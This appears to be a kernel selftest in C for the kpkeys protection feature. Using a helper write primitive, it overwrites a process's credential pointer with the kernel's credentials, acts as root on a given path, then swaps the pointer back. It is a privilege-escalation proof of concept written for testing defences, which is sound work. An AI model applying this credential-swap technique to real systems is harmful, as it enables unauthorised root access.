// SPDX-License-Identifier: GPL-2.0-only
/*
 * Exchange the pointer to the attacker's credentials for one to those of the
 * kernel itself. They need not be written.
 */
#include "common.h"

int main(int argc, char **argv)
{
	struct kpkeys_vuln_cred mine = vuln_cred();

	vuln_write(mine.pointer, mine.root);
	steal_and_alter_as_root(argc > 1 ? argv[1] : "");
	/* No reference was taken that could be dropped. */
	vuln_write(mine.pointer, mine.cred);
	return 0;
}
